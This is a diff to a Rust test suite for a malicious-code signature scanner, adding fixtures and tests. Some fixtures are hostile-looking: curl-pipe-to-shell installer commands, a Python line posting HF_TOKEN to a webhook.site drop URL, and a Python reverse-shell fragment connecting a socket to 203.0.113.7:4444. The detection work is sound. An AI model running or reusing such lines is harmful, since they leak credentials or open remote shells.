@@ -448,6 +448,15 @@ text = requests.get(url).text
 value = literal_eval(text)
 "#,
     ),
+    (
+        "download-exec",
+        br#"def update_command(method):
+    if method == "installer":
+        return ["bash", "-c", "curl -LsSf https://hf.co/cli/install.sh | bash -s -- --force"]
+    # Windows: powershell -ExecutionPolicy ByPass -c "irm https://hf.co/cli/install.ps1 | iex"
+    # Rust toolchain: curl https://sh.rustup.rs -sSf | sh -s -- -y
+"#,
+    ),
     // ---------------------------------------------------------------- miner
     (
         "miner",
@@ -681,4 +690,43 @@ fn matches_report_offset_and_excerpt_of_the_first_match() {
         "{}",
         m[0].excerpt
     );
+}
+
+#[test]
+fn secrets_and_channels_far_apart_in_a_large_file_do_not_match() {
+    // A library documenting a request-capture site in one docstring and reading HF_TOKEN
+    // elsewhere (huggingface_hub's hf_api.py does both, 40 KB apart).
+    let mut data = b"def whoami():\n    token = os.environ.get(\"HF_TOKEN\")\n".to_vec();
+    data.extend(b"    x = compute(x)  # filler line of an unrelated large module\n".repeat(600));
+    data.extend(
+        b"def create_webhook(url):\n    \"\"\"url: e.g. https://webhook.site/your-id\"\"\"\n",
+    );
+    assert!(data.len() > 16 * 1024);
+    let s = sigs();
+    assert!(s.scan(&data).is_empty(), "{:?}", s.scan(&data));
+    // The same pair within a few lines matches, in a file of any size.
+    let mut close = data.clone();
+    close.extend(
+        b"requests.post(\"https://webhook.site/abc\", data=os.environ.get(\"HF_TOKEN\"))\n",
+    );
+    let m = s.scan(&close);
+    assert!(
+        m.iter().any(|m| m.rule == "TS_Exfil_SecretsToDropChannel"),
+        "{m:?}"
+    );
+}
+
+#[test]
+fn the_offset_points_at_the_main_pattern_not_at_context() {
+    // "/bin/sh" (a context pattern) comes first; the reported match is the connect call.
+    let data = br#"SHELL = "/bin/sh"
+s = socket.socket()
+s.connect(("203.0.113.7", 4444))
+os.dup2(s.fileno(), 0)
+"#;
+    let m = sigs().scan(data);
+    assert_eq!(m.len(), 1, "{m:?}");
+    assert_eq!(m[0].rule, "TS_RevShell_PythonSocketShell");
+    assert!(m[0].excerpt.contains(".connect((") || data[m[0].offset..].starts_with(b".connect(("));
+    assert_eq!(&data[m[0].offset..m[0].offset + 10], b".connect((");
 }
